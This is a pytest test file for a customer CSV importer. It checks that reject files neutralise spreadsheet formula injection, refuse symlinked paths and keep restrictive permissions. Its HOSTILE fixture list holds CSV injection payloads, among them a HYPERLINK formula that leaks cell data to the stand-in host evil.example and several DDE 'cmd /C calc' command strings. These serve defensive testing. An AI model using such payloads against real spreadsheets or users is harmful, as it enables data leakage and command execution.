"""Reject files are safe to open (no formula runs) and to place (no symlink followed, nothing
overwritten that Patron did not write), and a fixed one still imports again."""

import csv
import stat
from pathlib import Path

import pytest

from patron.customers.models import ExternalId
from patron.imports.customers import ImportRefused, import_customers
from patron.imports.rejects import neutralised, restored

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-5",
    "'=already quoted",
]


def write_rows(path, header, rows):
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def read_rejects(path):
    with open(path, encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def hostile_file(tmp_path):
    """One good row, then one row per hostile note, each rejected for its phone "12"."""
    rows = [["G1", "Good", "0812345678", "fine"]]
    rows += [[f"H{n}", f"Name {n}", "12", value] for n, value in enumerate(HOSTILE)]
    return write_rows(tmp_path / "customers.csv", ["id", "name", "phone", "note"], rows)


@pytest.mark.parametrize("value", [*HOSTILE, "plain", "", "O'Brien", "a=b", "'"])
def test_neutralising_is_undone_exactly(value):
    assert restored(neutralised(value)) == value
    assert not neutralised(value).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_no_cell_of_a_reject_file_starts_a_formula(somchai, thai_shop, tmp_path):
    summary = import_customers(hostile_file(tmp_path), by=somchai, source="pos")
    rows = read_rejects(summary.reject_file)
    assert summary.rejected == len(HOSTILE) == len(rows) - 1
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert [row[3] for row in rows[1:]] == ["'" + value for value in HOSTILE]


def test_a_header_that_starts_a_formula_is_neutralised_too(somchai, thai_shop, tmp_path):
    path = write_rows(tmp_path / "customers.csv", ["id", "name", "phone", "=1+1"], [["A", "An", "12", "x"]])
    summary = import_customers(path, by=somchai, source="pos")
    assert read_rejects(summary.reject_file)[0] == ["id", "name", "phone", "'=1+1", "row", "reason"]
    rows = read_rejects(summary.reject_file)
    rows[1][2] = "0891234567"
    again = import_customers(write_rows(tmp_path / "fixed.csv", rows[0], rows[1:]), by=somchai, source="pos")
    assert again.created == 1
    assert ExternalId.objects.get(source="pos", value="A").customer.attributes["=1+1"] == "x"


def test_a_fixed_reject_file_imports_the_values_as_they_were(somchai, thai_shop, tmp_path):
    summary = import_customers(hostile_file(tmp_path), by=somchai, source="pos")
    rows = read_rejects(summary.reject_file)
    for n, row in enumerate(rows[1:]):
        row[2] = f"08912345{n:02d}"
    fixed = write_rows(tmp_path / "fixed.csv", rows[0], rows[1:])

    again = import_customers(fixed, by=somchai, source="pos")
    # The same values never rejected, imported straight from a file of another source.
    direct = [[f"H{n}", f"Name {n}", f"08812345{n:02d}", value] for n, value in enumerate(HOSTILE)]
    import_customers(write_rows(tmp_path / "direct.csv", rows[0][:4], direct), by=somchai, source="web")

    assert (again.created, again.rejected) == (len(HOSTILE), 0)
    for n in range(len(HOSTILE)):
        fixed_note = ExternalId.objects.get(source="pos", value=f"H{n}").customer.attributes["note"]
        direct_note = ExternalId.objects.get(source="web", value=f"H{n}").customer.attributes["note"]
        assert fixed_note == direct_note
    # "-5", written '-5 in the reject file, is the number again, not the text "'-5".
    assert ExternalId.objects.get(source="pos", value="H7").customer.attributes["note"] == -5


def test_a_leading_quote_is_data_in_a_file_that_is_not_a_reject_file(somchai, thai_shop, tmp_path):
    path = write_rows(tmp_path / "customers.csv", ["id", "name", "note"], [["Q1", "Quinn", "'quoted"]])
    import_customers(path, by=somchai, source="pos")
    assert ExternalId.objects.get(value="Q1").customer.attributes["note"] == "'quoted"


def test_a_symlink_at_the_reject_path_is_not_written_through(somchai, thai_shop, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    target = elsewhere / "authorized_keys"
    target.write_text("ssh-ed25519 AAAA precious\n")
    (tmp_path / "customers.rejects.csv").symlink_to(target)
    dangling = tmp_path / "dangling.rejects.csv"
    dangling.symlink_to(elsewhere / "created-through-link")

    with pytest.raises(ImportRefused, match="is not a reject file Patron wrote"):
        import_customers(hostile_file(tmp_path), by=somchai, source="pos")
    with pytest.raises(ImportRefused):
        import_customers(hostile_file(tmp_path), by=somchai, source="pos", rejects_path=dangling)

    assert target.read_text() == "ssh-ed25519 AAAA precious\n"
    assert not (elsewhere / "created-through-link").exists()
    assert not ExternalId.objects.exists()


def test_a_file_patron_did_not_write_is_not_overwritten(somchai, thai_shop, tmp_path):
    theirs = tmp_path / "customers.rejects.csv"
    theirs.write_text("id,name\nmine,keep me\n", encoding="utf-8")
    with pytest.raises(ImportRefused, match="--rejects"):
        import_customers(hostile_file(tmp_path), by=somchai, source="pos")
    assert theirs.read_text(encoding="utf-8") == "id,name\nmine,keep me\n"
    assert not ExternalId.objects.exists()


def test_a_reject_file_patron_wrote_is_replaced_by_the_next_run(somchai, thai_shop, tmp_path):
    path = hostile_file(tmp_path)
    first = import_customers(path, by=somchai, source="pos")
    write_rows(path, ["id", "name", "phone"], [["H0", "Name 0", "12"]])
    second = import_customers(path, by=somchai, source="pos")
    assert second.reject_file == first.reject_file
    assert [row[0] for row in read_rejects(second.reject_file)] == ["id", "H0"]


def test_a_reject_file_is_readable_by_its_owner_only(somchai, thai_shop, tmp_path):
    summary = import_customers(hostile_file(tmp_path), by=somchai, source="pos")
    assert stat.S_IMODE(Path(summary.reject_file).stat().st_mode) == 0o600
